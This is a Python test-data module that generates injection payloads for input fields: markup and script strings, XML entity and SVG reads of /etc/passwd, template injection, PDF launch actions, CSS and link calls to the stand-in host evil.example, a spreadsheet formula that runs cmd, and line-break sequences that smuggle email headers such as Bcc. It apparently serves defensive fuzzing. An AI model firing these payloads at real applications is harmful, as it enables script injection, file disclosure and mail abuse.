"""What people who mean harm type into a field: 300 pieces of markup, 500 lines that want to be a header."""

from __future__ import annotations

import itertools
from typing import Final

_MARKUP: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><image href=file:///etc/passwd /></svg>",
    "<svg><use href=//evil.example/x#a /></svg>",
    "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<a rel=attachment href=file:///etc/passwd>x</a>",
    "<base href=file:///etc/>",
    "<object data=file:///etc/passwd>",
    "<embed src=//evil.example/x.pdf>",
    "<iframe src=javascript:alert(1)>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import url(//evil.example/x);</style>",
    "<p style=background:url(//evil.example/x)>",
    "<style>@font-face{font-family:q;src:url(//evil.example/f)}</style>",
    "<form action=//evil.example><input autofocus>",
    "<a href=javascript:alert(1)>x</a>",
    "<!--<img src=x>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=//evil.example/x?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "%(patient_name)s %s %n",
    "${7*7} #{7*7} <%= 7*7 %>",
    "(/JS (app.alert\\(1\\)) /S /JavaScript)",
    ">> /AA << /O << /S /Launch /F (cmd) >> >>",
    "endstream endobj 9 0 obj << /OpenAction 9 0 R >>",
    "/URI (http://evil.example) /A <<",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    "` onclick=alert(1) `",
    "url(javascript:alert(1))",
    "expression(alert(1));}*{background:url(//evil.example)}",
    "ACCENT; } body { display: none } ACCENT-PALE",
    "data:text/html,<script>alert(1)</script>",
    "javascript:alert(1)//http://x",
    "asset:logo",
    "<img src=asset:logo>",
    "\\u003cscript\\u003ealert(1)",
    "\u202eevil\u2066",
    "+ADw-script+AD4-alert(1)",
    "=cmd|'/c calc'!A1",
)
_AROUND: Final = ("{}", '"{}', "x'>{}", "{}\n{}", "--><{}", "]]>{}")
MARKUP: Final = tuple(
    around.replace("{}", payload) for around, payload in itertools.product(_AROUND, _MARKUP)
)
_BREAKS: Final = (
    *("\r\n", "\n", "\r", "\r\n\r\n", "\n\n", "\x0b", "\x0c", "\x1c", "\x1e", "\x85", "\u2028", "\u2029"),
    *("%0d%0a", "%0a", "\\r\\n", "=0D=0A", "=?utf-8?q?=0D=0A?=", "\0", "\r\n ", "\n\t", "\x7f", "\ufeff\n"),
    *("嘊嘍", "\x1d", "&#13;&#10;"),
)
_LINES: Final = (
    *("Bcc: eve@evil.example", "Cc: eve@evil.example", "To: eve@evil.example", "Reply-To: eve@evil.example"),
    *("From: eve@evil.example", "Sender: eve@evil.example", "Return-Path: <eve@evil.example>"),
    *("Subject: Your password", "Content-Type: text/html", "Content-Transfer-Encoding: base64"),
    *("MIME-Version: 1.1", "X-Priority: 1", "Received: from evil.example", "Message-ID: <x@evil.example>"),
    *("References: <x@evil.example>", "Date: Thu, 1 Jan 1970 00:00:00 +0000", "DKIM-Signature: v=1"),
    *("Disposition-Notification-To: eve@evil.example", "<script>alert(1)</script>", ".\r\nMAIL FROM:<eve>"),
)
HEADERS: Final = tuple(f"Request{gap}{line}" for gap, line in itertools.product(_BREAKS, _LINES))
